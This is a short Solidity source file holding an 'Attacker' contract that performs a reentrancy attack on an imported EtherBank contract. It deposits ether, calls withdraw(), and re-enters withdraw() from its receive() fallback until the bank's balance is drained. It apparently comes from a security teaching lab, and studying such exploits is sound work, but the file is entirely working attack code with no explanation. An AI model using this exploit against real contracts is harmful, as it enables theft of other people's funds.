// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {EtherBank} from "./EtherBank.sol";

contract Attacker {
    EtherBank private immutable bank;

    constructor(EtherBank bank_) {
        bank = bank_;
    }

    function attack() external payable {
        bank.deposit{value: msg.value}();
        bank.withdraw();
    }

    receive() external payable {
        if (address(bank).balance >= msg.value) bank.withdraw();
    }
}
